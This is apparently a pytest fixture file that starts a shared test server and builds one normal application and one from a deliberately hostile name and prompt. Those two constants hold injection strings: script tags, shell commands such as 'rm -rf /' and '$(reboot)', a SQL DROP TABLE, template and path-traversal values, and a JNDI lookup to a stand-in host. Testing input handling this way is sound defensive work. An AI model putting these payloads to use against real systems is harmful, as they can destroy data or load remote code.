"""One real server for a test process, and one small application on it."""

from collections.abc import Generator

import pytest

from millwright.doors.cli.client import Client
from millwright.doors.cli.servers import Server
from tests.journeys import servers
from tests.journeys.servers import App

HOSTILE_NAME = "<script>alert(1)</script> $(reboot) '; DROP TABLE books; -- ${{7*7}} ../../etc"
HOSTILE_PROMPT = """
A shop for <script>alert(1)</script> bikes: customers order bikes; rm -rf / && $(reboot); each bike has a name
"><img src=x onerror=alert(2)>, a price and a `whoami` colour; {{ 7*7 }} ${jndi:ldap://evil.test/x} %s %n
"""


@pytest.fixture(scope="session")
def server(pytestconfig: pytest.Config) -> Server:
    servers.require_factory()
    return servers.shared_server(pytestconfig)


@pytest.fixture(scope="session")
def client(server: Server) -> Generator[Client]:
    with Client(server.url, server.key) as client:
        yield client


@pytest.fixture(scope="session")
def app(server: Server, pytestconfig: pytest.Config) -> App:
    """A list of books; tests leave it as it is."""
    found = servers.shared_app(pytestconfig)
    assert found.operation["status"] == "succeeded", found.operation["error"]
    return found


@pytest.fixture(scope="session")
def other_app(client: Client) -> App:
    """An application whose name and words are HTML, shell, SQL and paths."""
    return servers.generate(client, HOSTILE_PROMPT, name=HOSTILE_NAME)
